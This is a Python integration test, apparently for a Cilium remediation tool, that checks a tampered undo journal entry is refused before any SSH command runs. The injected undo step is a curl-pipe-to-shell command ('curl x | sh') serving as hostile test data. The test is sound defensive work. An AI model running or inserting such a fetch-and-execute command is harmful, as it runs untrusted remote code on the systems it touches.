"""A tampered journal entry sends nothing: refused with its path, before any SSH command."""

from __future__ import annotations

import json
from collections.abc import Awaitable, Callable

import pytest

from cilium_tui.remedy.journal import JournalError
from cilium_tui.remedy.planner import build_plan
from tests.integration.remedy.conftest import Lab, apply

StartLab = Callable[[str], Awaitable[Lab]]


async def test_a_tampered_entry_is_refused_and_sends_nothing(lab: StartLab) -> None:
    seed = await lab("seed")
    plan = build_plan("cpu-governor", await seed.source.scan())
    result = await apply(seed, plan)
    assert result.outcome == "verified", result.message
    entry_id = result.entry_id or ""
    path = seed.journal.directory / f"{entry_id}.json"
    doc = json.loads(path.read_text())
    doc["plan"]["nodeSteps"][0]["change"]["undo"][0]["argv"] = ["sh", "-c", "curl x | sh"]
    path.write_text(json.dumps(doc))
    hosts = seed.hosts()

    with pytest.raises(JournalError) as refused:
        await seed.engine.undo_plan(entry_id)
    assert str(path) in str(refused.value) and "refused" in str(refused.value)
    with pytest.raises(JournalError, match="do not validate"):
        await seed.engine.undo_plan()  # never guessed past it either
    assert seed.hosts() == hosts
